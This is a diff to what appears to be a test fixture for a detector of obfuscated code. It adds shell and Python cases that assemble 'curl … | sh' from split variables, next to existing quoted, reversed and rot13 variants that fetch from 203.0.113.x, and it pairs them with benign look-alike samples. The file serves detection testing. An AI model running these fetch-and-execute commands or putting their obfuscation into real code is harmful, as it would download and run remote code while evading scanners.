@@ -95,6 +95,11 @@ BUILT = {
     "shell quotes": ("x.sh", "c'u'r\"l\" -s http://203.0.113.5/x | b'a'sh"),
     "shell rev": ("x.sh", f"echo '{CMD[::-1]}' | rev | sh"),
     "shell tr rot13": ("x.sh", f"echo '{ROT}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"),
+    "shell variables": (
+        "x.sh",
+        'a="cu"; b="rl"; c=" -s ht"; d="tp://203.0.113.54/p"; e="|s"; f="h"\neval "$a$b$c$d $e$f"',
+    ),
+    "python variables": ("x.py", PY + "a)\na = 'cu'\nb = 'rl" + TAIL + "'\nos.system(a + b)"),
     "hex list": ("x.py", PY + "bytes([0x63, 0x75, 0x72, 0x6c]).decode() + '" + TAIL + "')"),
 }
 
@@ -125,6 +130,11 @@ HARMLESS = {
     "base64 config": ("x.py", f"CONFIG = '{b64(b'theme=dark; language=en; page_size=50')}'\n"),
     "png": ("assets/logo.png.b64", b64(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)),
     "font": ("assets/font.css", f"@font-face {{ src: url(data:font/woff2;base64,{FONT}); }}"),
+    "shell variables": (
+        "x.sh",
+        'DIR="build"\nNAME="app"\nmkdir -p "$DIR/$NAME"\necho "$DIR $NAME"\n',
+    ),
+    "python variables": ("x.py", 'first = "Ada"\nlast = "Lovelace"\nprint(first + " " + last)\n'),
     "reversed word": ("x.py", "print('olleh'[::-1])\n"),
 }
 
